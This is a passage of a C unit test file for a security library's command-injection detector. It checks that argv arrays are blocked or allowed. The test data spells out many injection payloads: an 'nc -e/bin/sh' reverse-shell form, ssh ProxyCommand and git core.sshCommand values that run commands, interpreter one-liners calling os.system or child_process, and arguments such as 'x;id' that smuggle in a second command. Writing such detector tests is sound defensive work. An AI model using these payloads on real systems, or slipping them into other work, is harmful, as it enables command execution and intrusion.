/* libmoatagent: the command_injection check of argv arrays
 * (ma_shell_argv.c), session 15's rules — what an option's value does
 * for the program that reads it: ssh's -o keywords, git's -c keys, the
 * code of an interpreter's -c/-e, the command of docker exec and
 * kubectl exec, a script file named by the user; and the ordinary values
 * beside them that must pass (ssh -o ConnectTimeout=5, vim file.txt,
 * python script.py --flag, docker exec c ls, a file name with spaces).
 * The older argv rules are in test_agent_shell.c. */
#include "agent_test.h"
#include "ma_shell.h"

#include <pthread.h>

#define CMDI_BLOCK "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}"

static const struct moat_policy *pol;

static int group_setup(void **state)
{
	(void)state;
	pol = moat_policy_parse(CMDI_BLOCK, 1, NULL, 0);
	return pol ? 0 : -1;
}

static int group_teardown(void **state)
{
	(void)state;
	moat_policy_release(pol);
	return 0;
}

/* The verdict of moat_check_argv for argv with input as the request's one
 * input; a block must carry an event (the rule is checked when rule is
 * not NULL). */
static int argv_rule(const char *input, const char *const *argv, const char *rule)
{
	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/run", .policy = pol};
	struct moat_request *r = NULL;
	int v;

	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "q", input, strlen(input)), 0);
	v = moat_check_argv(r, argv, -1);
	if (v == MOAT_BLOCK) {
		const struct moat_event *ev = moat_request_event(r);
		assert_non_null(ev);
		if (rule)
			assert_string_equal(ev->rule, rule);
	}
	moat_request_end(r);
	return v;
}

static int argv_check(const char *input, const char *const *argv)
{
	return argv_rule(input, argv, NULL);
}

/* curl's -e is the referer (curl(1)): a value, whatever it holds, and an
 * input that adds -e/x as an option only sets a referer. The letter
 * means a program to run for nc, a script for wget, sed, perl: the
 * program's own table decides, not the generic "-e/" rule. */
static void argv_curl_e_is_the_referer(void **state)
{
	(void)state;
	{
		const char *a[] = {"curl", "-e", "https://ref.example/", "https://x/", NULL};
		const char *b[] = {"curl", "-s", "-e/index.html", "https://x/", NULL};
		const char *c[] = {"curl", "-e", "-e/bin/sh", "https://x/", NULL};
		const char *d[] = {"curl", "--referer", "/bin/sh;auto", "https://x/", NULL};
		const char *e[] = {"curl", "-se/bin/sh", "https://x/", NULL};
		assert_int_equal(argv_check("https://ref.example/", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-e/index.html", b), MOAT_ALLOW);
		assert_int_equal(argv_check("-e/bin/sh", c), MOAT_ALLOW);
		assert_int_equal(argv_check("/bin/sh;auto", d), MOAT_ALLOW);
		assert_int_equal(argv_check("-se/bin/sh", e), MOAT_ALLOW);
	}
	{ /* the letter that runs or reads a script elsewhere still fires */
		const char *a[] = {"nc", "-e/bin/sh", "10.0.0.1", "4444", NULL};
		const char *b[] = {"wget", "-e/tmp/x", "https://x/", NULL};
		const char *c[] = {"mytool", "-e/bin/sh", NULL};
		const char *d[] = {"curl", "-o/tmp/x", "https://x/", NULL};
		assert_int_equal(argv_rule("-e/bin/sh", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-e/tmp/x", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-e/bin/sh", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-o/tmp/x", d, "cmd.option"), MOAT_BLOCK);
	}
	{ /* -C/ that the generic rule caught for tar, git and man stays
	   * caught by their tables: tar writes under that directory, git
	   * runs that repository's hooks, man reads that configuration */
		const char *a[] = {"tar", "-xf", "/srv/a.tar", "-C/etc", NULL};
		const char *b[] = {"git", "-C/tmp/evil", "status", NULL};
		const char *c[] = {"man", "-C/tmp/man.conf", "ls", NULL};
		const char *d[] = {"tar", "-C", "/srv/out", "-xf", "/srv/a.tar", NULL};
		assert_int_equal(argv_rule("-C/etc", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-C/tmp/evil", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("-C/tmp/man.conf", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_check("/srv/out", d), MOAT_ALLOW);
	}
}

/* A command run in a container or another root (docker/podman exec
 * CONTAINER, docker run IMAGE, kubectl exec POD -- ..., chroot DIR) is
 * judged as argv[0]'s would be: its shell's -c script is a command line,
 * its own dangerous options fire; the runner's options and their values,
 * the container's name and ordinary commands pass. */
static void argv_commands_in_containers_are_judged(void **state)
{
	(void)state;
	{
		const char *a[] = {"docker", "exec", "web", "sh", "-c", "ls x;id", NULL};
		const char *b[] = {"docker", "exec", "-u", "www",     "-w", "/srv",
		                   "web",    "bash", "-c", "ls x;id", NULL};
		const char *c[] = {"kubectl", "-n", "prod", "exec", "api-0",   "-c",
		                   "app",     "--", "sh",   "-c",   "ls x;id", NULL};
		const char *d[] = {"podman",   "run", "--rm", "-e",      "A=1",
		                   "alpine:3", "sh",  "-c",   "ls x;id", NULL};
		const char *e[] = {"docker", "container", "exec",    "web",
		                   "sh",     "-c",        "ls x;id", NULL};
		const char *f[] = {"sudo", "docker", "exec",    "web", "busybox",
		                   "sh",   "-c",     "ls x;id", NULL};
		const char *g[] = {"chroot", "/srv/jail", "sh", "-c", "ls x;id", NULL};
		const char *h[] = {"docker", "--context", "prod", "exec",    "web", "env",
		                   "A=1",    "sh",        "-c",   "ls x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", g), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", h), MOAT_BLOCK);
	}
	{ /* env, bash, busybox: the shells the brief lists */
		const char *a[] = {"env", "-i", "LANG=C", "bash", "--norc", "-c", "ls x;id", NULL};
		const char *b[] = {"busybox", "sh", "-c", "ls x;id", NULL};
		const char *c[] = {"/bin/bash", "-c", "ls x;id", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
	}
	{ /* the program's own options, inside the container */
		const char *a[] = {"docker",           "exec",      "web", "curl",
		                   "-o/var/www/x.php", "http://h/", NULL};
		const char *b[] = {"kubectl", "exec", "api-0", "--", "/tmp/x.sh", NULL};
		assert_int_equal(argv_rule("-o/var/www/x.php", a, "cmd.option"), MOAT_BLOCK);
		const char *c[] = {"sudo", "-u", "www", "/tmp/x.sh", NULL};
		assert_int_equal(argv_rule("/tmp/x.sh", b, "cmd.argv0"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", c, "cmd.argv0"), MOAT_BLOCK);
	}
	{ /* ordinary commands, names and values */
		const char *a[] = {"docker", "exec", "web", "ls", "x;id", NULL};
		const char *b[] = {"docker", "exec", "-e", "NOTE=x;id", "web", "ls", NULL};
		const char *c[] = {"docker", "logs", "web", "sh", "-c", "x;id", NULL};
		const char *d[] = {"kubectl", "exec", "api-0", "--", "ls", "my file (1).txt", NULL};
		const char *e[] = {"docker", "exec", "my-web-1", "ls", NULL};
		const char *f[] = {"docker", "run", "--name", "x;id", "alpine", "ls", NULL};
		const char *g[] = {"docker", "exec", "web", "sh", "-c", "ls 'x;id'", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_ALLOW);
		assert_int_equal(argv_check("NOTE=x;id", b), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", c), MOAT_ALLOW);
		assert_int_equal(argv_check("my file (1).txt", d), MOAT_ALLOW);
		assert_int_equal(argv_check("my-web-1", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", f), MOAT_ALLOW);
		assert_int_equal(argv_check("x;id", g), MOAT_ALLOW);
	}
}

/* ssh's, scp's and sftp's -o is an ssh_config line (ssh_config(5),
 * keywords compared case-insensitively, "=" or blanks between keyword
 * and value: `ssh -G` reads -o proxycommand=id and "LocalCommand touch x"
 * alike). An input that writes a keyword that runs a command, loads code
 * or names a file that decides what runs fires; in a command keyword's
 * value, the input is judged as in any command line value (it names the
 * command, adds an option word, or the line as a shell line fires); in a
 * file keyword's value, when it names the file or climbs with "..". */
static void argv_ssh_options_that_run_commands(void **state)
{
	(void)state;
	{
		const char *a[] = {"ssh", "-o", "ProxyCommand=sh -c 'id>/tmp/p'", "host", NULL};
		const char *b[] = {"ssh", "-o", "proxycommand id", "host", "uptime", NULL};
		const char *c[] = {
		    "scp",       "-o", "LocalCommand=id", "-o", "PermitLocalCommand=yes", "/tmp/f",
		    "host:/tmp", NULL};
		const char *d[] = {"sftp", "-oKnownHostsCommand=/tmp/x.sh", "host", NULL};
		const char *e[] = {"ssh", "-o", "PKCS11Provider=/tmp/x.so", "host", NULL};
		const char *f[] = {"ssh", "-o", "PermitLocalCommand=yes", "host", NULL};
		assert_int_equal(argv_rule("ProxyCommand=sh -c 'id>/tmp/p'", a, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("proxycommand id", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("LocalCommand=id", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("KnownHostsCommand=/tmp/x.sh", d, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("PKCS11Provider=/tmp/x.so", e, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("PermitLocalCommand=yes", f, "cmd.option"), MOAT_BLOCK);
	}
	{ /* in the value of the application's own keyword */
		const char *a[] = {"ssh", "-o", "ProxyCommand=nc -X 5 -x x;id %h %p", "host", NULL};
		const char *b[] = {"ssh", "-o", "ProxyCommand=/tmp/x.sh %h %p", "host", NULL};
		const char *c[] = {"ssh", "-o",
		                   "ProxyCommand=ssh -W %h:%p -p 22 -oProxyCommand=id j", "host",
		                   NULL};
		const char *d[] = {"ssh", "-o", "PKCS11Provider=/srv/keys/../../var/www/k.so",
		                   "host", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("22 -oProxyCommand=id", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("../../var/www/k.so", d, "cmd.option_file"), MOAT_BLOCK);
		/* an input that starts at the separator names the value too */
		const char *e[] = {"ssh", "-o", "PKCS11Provider = /tmp/k", "host", NULL};
		const char *f[] = {"ssh", "-o", "ProxyCommand = /tmp/x.sh", "host", NULL};
		assert_int_equal(argv_rule(" = /tmp/k", e, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("= /tmp/x.sh", f, "cmd.option"), MOAT_BLOCK);
	}
	{ /* ordinary options and values */
		const char *a[] = {"ssh", "-o", "ConnectTimeout=5", "host", "uptime", NULL};
		const char *b[] = {"ssh", "-o", "User=deploy", "host", NULL};
		const char *c[] = {"ssh", "-o", "ProxyCommand=ssh -W %h:%p jump-01.example.com",
		                   "host", NULL};
		const char *d[] = {"ssh", "-o", "ConnectTimeout=5 ProxyCommand=id", "host", NULL};
		const char *e[] = {"ssh", "-o", "UserKnownHostsFile=/srv/keys/web-01", "host",
		                   NULL};
		const char *f[] = {"ssh", "-o", "SendEnv=LANG proxy command", "host", NULL};
		assert_int_equal(argv_check("ConnectTimeout=5", a), MOAT_ALLOW);
		assert_int_equal(argv_check("deploy", b), MOAT_ALLOW);
		assert_int_equal(argv_check("jump-01.example.com", c), MOAT_ALLOW);
		/* ssh refuses it: "keyword connecttimeout extra arguments" */
		assert_int_equal(argv_check("5 ProxyCommand=id", d), MOAT_ALLOW);
		assert_int_equal(argv_check("web-01", e), MOAT_ALLOW);
		assert_int_equal(argv_check("LANG proxy command", f), MOAT_ALLOW);
	}
}

/* A value that is a command line the program runs (rsync -e/--rsh, git
 * --upload-pack/-u/--receive-pack, tar -I/--to-command, scp -S, man -P,
 * env -S, python -m) fires when the input names the command, adds an
 * option word, or the value as a shell line fires; git's -c before the
 * subcommand is name=value: a key that runs a command (core.sshCommand,
 * core.pager, credential.helper, alias.* ...), names the hooks or an
 * included file, or sends git elsewhere (protocol.*.allow,
 * url.*.insteadOf) fires when the input writes it, and its value as a
 * command line. */
static void argv_command_line_values(void **state)
{
	(void)state;
	{
		const char *a[] = {"rsync", "-a",     "-e", "sh -c 'id>/tmp/p'",
		                   "/src",  "h:/dst", NULL};
		const char *b[] = {"rsync", "-a",   "--rsh=ssh -p 22 -oProxyCommand=id",
		                   "/src",  "h:/d", NULL};
		const char *c[] = {"rsync", "-e", "ssh -i /keys/x;id", "/src", "h:/dst", NULL};
		const char *d[] = {"git",           "clone",
		                   "--upload-pack", "touch /tmp/p;git-upload-pack",
		                   "/srv/r",        NULL};
		const char *e[] = {"git",   "-c",        "core.sshCommand=touch /tmp/p",
		                   "clone", "ssh://h/r", NULL};
		const char *f[] = {"git", "-c", "core.sshCommand=ssh -i /keys/x;id", "fetch", NULL};
		const char *g[] = {"git",   "-c",      "protocol.ext.allow=always",
		                   "clone", "ext::sh", NULL};
		const char *h[] = {"git", "-c", "Alias.st=!id", "st", NULL};
		const char *i[] = {"tar", "-I", "sh -c id", "-xf", "/srv/a.tar", NULL};
		const char *j[] = {"scp", "-S", "/tmp/x.sh", "/f", "h:/f", NULL};
		const char *k[] = {"python3", "-m", "http.server", "8000", NULL};
		const char *l[] = {"git", "-c", "core.hooksPath=/tmp/hooks", "commit", "-m",
		                   "x",   NULL};
		assert_int_equal(argv_rule("sh -c 'id>/tmp/p'", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("22 -oProxyCommand=id", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_rule("touch /tmp/p;git-upload-pack", d, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("core.sshCommand=touch /tmp/p", e, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", f), MOAT_BLOCK);
		assert_int_equal(argv_rule("protocol.ext.allow=always", g, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("Alias.st=!id", h, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("sh -c id", i, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.sh", j, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("http.server", k, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/hooks", l, "cmd.option_file"), MOAT_BLOCK);
		/* git 2.39: clone's own -c sets the key for the clone's fetch
		 * (core.sshCommand ran, checked in a scratch directory) */
		const char *m[] = {"git",       "clone", "-c", "core.sshCommand=touch /tmp/p",
		                   "ssh://h/r", NULL};
		const char *n[] = {"git", "clone", "ssh://h/r", "--config=core.sshCommand=x;id",
		                   NULL};
		const char *o[] = {"wget", "-e", "output_document=/var/www/x.php", "http://h/",
		                   NULL};
		assert_int_equal(argv_rule("core.sshCommand=touch /tmp/p", m, "cmd.option"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", n), MOAT_BLOCK);
		assert_int_equal(argv_rule("output_document=/var/www/x.php", o, "cmd.option"),
		                 MOAT_BLOCK);
	}
	{ /* data in the application's command line; ordinary keys; a
	   * subcommand's -c; a file name with spaces */
		const char *a[] = {"rsync", "-e", "ssh -p 2222", "/srv/my file (1).txt",
		                   "h:/d",  NULL};
		const char *b[] = {"rsync", "-e", "ssh -i /keys/web-01", "/src", "h:/dst", NULL};
		const char *c[] = {"git", "-c", "user.name=Jane O'Brien", "commit", "-m",
		                   "x",   NULL};
		const char *d[] = {"git", "-c", "color.ui=auto", "log", NULL};
		const char *e[] = {"git", "commit", "-c", "core.sshCommand=x", NULL};
		const char *f[] = {"git", "-c", "core.sshCommand=ssh -i /keys/web-01", "fetch",
		                   NULL};
		const char *g[] = {"python3", "-m", "http.server", "8000", NULL};
		const char *h[] = {"man", "-P", "less -R", "ls", NULL};
		assert_int_equal(argv_check("my file (1).txt", a), MOAT_ALLOW);
		assert_int_equal(argv_check("web-01", b), MOAT_ALLOW);
		assert_int_equal(argv_check("Jane O'Brien", c), MOAT_ALLOW);
		assert_int_equal(argv_check("color.ui=auto", d), MOAT_ALLOW);
		assert_int_equal(argv_check("core.sshCommand=x", e), MOAT_ALLOW);
		assert_int_equal(argv_check("web-01", f), MOAT_ALLOW);
		assert_int_equal(argv_check("8000", g), MOAT_ALLOW);
		assert_int_equal(argv_check("ls", h), MOAT_ALLOW);
	}
}

/* A value that names a file the program reads as code, a script or its
 * configuration (sed -f, awk -f, gawk -i/-l/-E, sftp -b, ssh -F, vim
 * -u/-S/-s, curl -K, php -c, node -r, ruby -r, psql -f) fires
 * cmd.option_file when the input names the file (starts the value) or
 * climbs with ".."; a file under the application's own directory passes. */
static void argv_script_files_from_an_input(void **state)
{
	(void)state;
	{
		const char *a[] = {"sed", "-f", "/tmp/evil.sed", "/srv/f", NULL};
		const char *b[] = {"awk", "-f", "/tmp/evil.awk", "/srv/f", NULL};
		const char *c[] = {"sftp", "-b", "/tmp/batch", "host", NULL};
		const char *d[] = {"ssh", "-F", "/tmp/cfg", "host", NULL};
		const char *e[] = {"vim", "-u", "/tmp/vimrc", "/srv/notes.txt", NULL};
		const char *f[] = {"sed", "-f", "/srv/scripts/../../tmp/evil.sed", "/srv/f", NULL};
		const char *g[] = {"gawk", "--load=/tmp/x.so", "BEGIN{}", NULL};
		const char *h[] = {"node", "-r", "/tmp/x.js", "/srv/app.js", NULL};
		const char *i[] = {"sed", "--file=/tmp/evil.sed", "/srv/f", NULL};
		assert_int_equal(argv_rule("/tmp/evil.sed", a, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/evil.awk", b, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/batch", c, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/cfg", d, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/vimrc", e, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("../../tmp/evil", f, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.so", g, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/x.js", h, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/evil.sed", i, "cmd.option_file"), MOAT_BLOCK);
	}
	{
		const char *a[] = {"sed", "-f", "/srv/scripts/fr-FR.sed", "/srv/f", NULL};
		const char *b[] = {"vim", "/srv/my notes.txt", NULL};
		const char *c[] = {"sftp", "-b", "-", "host", NULL};
		const char *d[] = {"awk", "-f", "/srv/report.awk", "/tmp/evil.awk", NULL};
		assert_int_equal(argv_check("fr-FR", a), MOAT_ALLOW);
		assert_int_equal(argv_check("/srv/my notes.txt", b), MOAT_ALLOW);
		assert_int_equal(argv_check("host", c), MOAT_ALLOW);
		assert_int_equal(argv_check("/tmp/evil.awk", d), MOAT_ALLOW);
	}
}

/* Code given as an option's value (python -c, perl -e/-E, ruby -e, node
 * -e/-p, php -r/-B/-R/-E) is code injection when the input changes its
 * tokens: it touches more than one token (it closes the string it was
 * put in, adds an operator, a call, a statement), or inside one string
 * it brings an interpolation that runs code (perl "@{[...]}", ruby
 * "#{...}", php "${...}", javascript `${...}`, python f"{...}"), a
 * shell metacharacter into a command string (perl's backticks), or a
 * (?{...}) into a perl regular expression. Text inside one string, a
 * number, a word, and an input that only breaks the code (it no longer
 * compiles: nothing runs) pass; so do the program's operands. */
static void argv_code_in_an_option_value(void **state)
{
	(void)state;
	{
		const char *a[] = {"python3", "-c", "import os;os.system('id')", NULL};
		const char *b[] = {"python3", "-c",
		                   "print('x');__import__('os').system('id');print('')", NULL};
		const char *c[] = {"perl", "-e", "print \"@{[ `id` ]}\"", NULL};
		const char *d[] = {"perl", "-ne", "print if /(?{ system 'id' })/", "/srv/f", NULL};
		const char *e[] = {"ruby", "-e", "puts \"#{`id`}\"", NULL};
		const char *f[] = {"node", "-e",
		                   "console.log(`${require('child_process')"
		                   ".execSync('id')}`)",
		                   NULL};
		const char *g[] = {"php", "-r", "echo \"${system('id')}\";", NULL};
		const char *h[] = {"python3", "-c", "print(f'{__import__(\"os\").system(\"id\")}')",
		                   NULL};
		const char *i[] = {"perl", "-e", "print `ls /srv;id`", NULL};
		const char *j[] = {"node", "--eval=console.log(1);require('child_process')", NULL};
		const char *k[] = {"perl", "-e", "print 'x'; BEGIN{system 'id'} '", NULL};
		const char *l[] = {"perl", "-e", "print 'x'; use POSIX; '", NULL};
		assert_int_equal(argv_rule("import os;os.system('id')", a, "cmd.program"),
		                 MOAT_BLOCK);
		assert_int_equal(
		    argv_rule("x');__import__('os').system('id');print('", b, "cmd.program"),
		    MOAT_BLOCK);
		assert_int_equal(argv_rule("@{[ `id` ]}", c, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("(?{ system 'id' })", d, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("#{`id`}", e, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(
		    argv_rule("${require('child_process').execSync('id')}", f, "cmd.program"),
		    MOAT_BLOCK);
		assert_int_equal(argv_rule("${system('id')}", g, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("{__import__(\"os\").system(\"id\")}", h, "cmd.program"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("/srv;id", i, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("1);require('child_process')", j, "cmd.program"),
		                 MOAT_BLOCK);
		/* perl runs BEGIN while it compiles, before the unclosed quote */
		assert_int_equal(argv_rule("x'; BEGIN{system 'id'} '", k, "cmd.program"),
		                 MOAT_BLOCK);
		assert_int_equal(argv_rule("x'; use POSIX; '", l, "cmd.program"), MOAT_BLOCK);
	}
	{ /* data: a string's text, a number, code that no longer compiles,
	   * the program's own operands */
		const char *a[] = {"python3", "-c", "print('hello world, it is 5 > 3; ok')", NULL};
		const char *b[] = {"python3", "-c", "import time; time.sleep(-5)", NULL};
		const char *c[] = {"node", "-e", "console.log('it's')", NULL};
		const char *d[] = {"perl", "-ne", "print if /error code 42/", "/srv/log", NULL};
		const char *e[] = {"python3", "/srv/app.py", "-c", "x'); id; ('", NULL};
		const char *f[] = {"python3", "-c", "import sys; print(sys.argv[1])", "x'); id",
		                   NULL};
		const char *g[] = {"ruby", "-e", "puts \"Price: $5 #1\"", NULL};
		const char *h[] = {"php", "-r", "echo 'My file (1).txt';", NULL};
		const char *i[] = {"perl", "-e", "print \"mail me: jane@example.com\"", NULL};
		const char *j[] = {"python3", "script.py", "--flag", NULL};
		/* perl too: an apostrophe that only breaks the code, nothing
		 * run at compile time (a BEGIN block, a use) */
		const char *k[] = {"perl", "-e", "print 'it's done, we use it'", NULL};
		const char *l[] = {"perl", "-ne", "print if /path/to/", "/srv/log", NULL};
		assert_int_equal(argv_check("hello world, it is 5 > 3; ok", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-5", b), MOAT_ALLOW);
		assert_int_equal(argv_check("it's", c), MOAT_ALLOW);
		assert_int_equal(argv_check("error code 42", d), MOAT_ALLOW);
		assert_int_equal(argv_check("x'); id; ('", e), MOAT_ALLOW);
		assert_int_equal(argv_check("x'); id", f), MOAT_ALLOW);
		assert_int_equal(argv_check("Price: $5 #1", g), MOAT_ALLOW);
		assert_int_equal(argv_check("My file (1).txt", h), MOAT_ALLOW);
		assert_int_equal(argv_check("jane@example.com", i), MOAT_ALLOW);
		assert_int_equal(argv_check("--flag", j), MOAT_ALLOW);
		assert_int_equal(argv_check("it's done, we use it", k), MOAT_ALLOW);
		/* perl refuses it: Unknown regexp modifier "/t" */
		assert_int_equal(argv_check("path/to", l), MOAT_ALLOW);
	}
}

/* vim's -c, --cmd and +cmd are Ex command lines: an input that names the
 * command or brings a bar, a line break, a backtick or a '!' that starts
 * a word (:r !id) fires cmd.program; a file name passes. */
static void argv_vim_ex_commands(void **state)
{
	(void)state;
	{
		const char *a[] = {"vim", "-c", "e /srv/x|!id", NULL};
		const char *b[] = {"vim", "-c", "!id", "/srv/notes.txt", NULL};
		const char *c[] = {"vi", "--cmd", "r !id", NULL};
		const char *d[] = {"vim", "+e /srv/x|!id", NULL};
		const char *e[] = {"vim", "-c", "e `id`", NULL};
		/* -s in Ex mode is silent: the -c after it is still read */
		const char *f[] = {"vim", "-es", "-c", "e /srv/x|!id", "/srv/f", NULL};
		const char *g[] = {"vim", "-s", "/tmp/keys", "/srv/f", NULL};
		assert_int_equal(argv_rule("x|!id", a, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("!id", b, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("!id", c, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x|!id", d, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("`id`", e, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x|!id", f, "cmd.program"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/keys", g, "cmd.option_file"), MOAT_BLOCK);
	}
	{
		const char *a[] = {"vim", "-c", "e /srv/my notes (1).txt", NULL};
		const char *b[] = {"vim", "file.txt", NULL};
		const char *c[] = {"vim", "+10", "/srv/wow!.txt", NULL};
		const char *d[] = {"vim", "-c", "set ft=markdown", "/srv/wow!.txt", NULL};
		assert_int_equal(argv_check("my notes (1).txt", a), MOAT_ALLOW);
		assert_int_equal(argv_check("file.txt", b), MOAT_ALLOW);
		assert_int_equal(argv_check("/srv/wow!.txt", c), MOAT_ALLOW);
		assert_int_equal(argv_check("wow!.txt", d), MOAT_ALLOW);
	}
}

/* ma_sh_code_judge on the code holding the input once: 1 when it
 * changes the code's tokens. */
static int code(int lang, const char *head, const char *input, const char *tail)
{
	char buf[512];
	size_t h = strlen(head), n = strlen(input);

	assert_true(h + n + strlen(tail) < sizeof buf);
	snprintf(buf, sizeof buf, "%s%s%s", head, input, tail);
	return ma_sh_code_judge(lang, buf, strlen(buf), h, h + n);
}

/* The code lexer, language by language: strings with their prefixes,
 * triple quotes and escapes, comments, perl's quote-like operators, a
 * regular expression after an operator or split but a division after an
 * operand, template strings, the interpolations that run code. */
static void the_code_lexer_reads_each_language(void **state)
{
	(void)state;
	assert_int_equal(code(MA_SH_LANG_PY, "print(\"\"\"", "a \"b\" c", "\"\"\")"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "print(rb'", "abc def", "')"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "x = 1  # ", "note; id", ""), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "x = 1  # ", "a\nimport os", ""), 1);
	assert_int_equal(code(MA_SH_LANG_PY, "print('", "a\\'b", "')"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "print('", "{x}", "')"), 0); /* no f */
	assert_int_equal(code(MA_SH_LANG_PY, "print(F'", "{x}", "')"), 1);
	assert_int_equal(code(MA_SH_LANG_PY, "import time; time.sleep(", "-5", ")"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "import time; time.sleep(", "-5)+(1", ")"), 1);
	assert_int_equal(code(MA_SH_LANG_PERL, "print q{", "a b", "}"), 0);
	assert_int_equal(code(MA_SH_LANG_PERL, "print q{", "a} . `id` . q{", "}"), 1);
	assert_int_equal(code(MA_SH_LANG_PERL, "my @a = split /,/, $x; print \"", "a b", "\""), 0);
	assert_int_equal(code(MA_SH_LANG_PERL, "$x = 10 / 2; print \"", "hi there", "\""), 0);
	assert_int_equal(code(MA_SH_LANG_PERL, "s{a}{", "b c", "}g"), 0);
	assert_int_equal(code(MA_SH_LANG_PERL, "print \"", "${\\ `id`}", "\""), 1);
	assert_int_equal(code(MA_SH_LANG_PERL, "print '", "@{[ `id` ]}", "'"), 0);
	assert_int_equal(code(MA_SH_LANG_JS, "let s = `", "a b", "`"), 0);
	assert_int_equal(code(MA_SH_LANG_JS, "let s = `", "${x}", "`"), 1);
	assert_int_equal(code(MA_SH_LANG_JS, "let s = '", "${x}", "'"), 0);
	assert_int_equal(code(MA_SH_LANG_JS, "/* ", "a b", " */ f()"), 0);
	assert_int_equal(code(MA_SH_LANG_JS, "/* ", "*/ id() /*", " */ f()"), 1);
	assert_int_equal(code(MA_SH_LANG_PHP, "echo \"", "cost $5", "\";"), 0);
	assert_int_equal(code(MA_SH_LANG_PHP, "echo \"", "{$x}", "\";"), 1);
	assert_int_equal(code(MA_SH_LANG_PHP, "echo `ls ", "x;id", "`;"), 1);
	assert_int_equal(code(MA_SH_LANG_RUBY, "puts '", "#{x}", "'"), 0);
	assert_int_equal(code(MA_SH_LANG_RUBY, "puts \"", "#{x}", "\""), 1);
	assert_int_equal(code(MA_SH_LANG_RUBY, "puts \"", "issue #1", "\""), 0);
	/* a number with a signed exponent is one token (a learning rate
	 * the application writes into python -c); 0x1e-5 subtracts */
	assert_int_equal(code(MA_SH_LANG_PY, "from m import run; run(lr=", "1e-5", ")"), 0);
	assert_int_equal(code(MA_SH_LANG_PY, "run(lr=", "-1.5E+10", ")"), 0);
	assert_int_equal(code(MA_SH_LANG_JS, "run(", "2.5e-3", ")"), 0);
	assert_int_equal(code(MA_SH_LANG_PERL, "print ", "1e-5", ";"), 0);
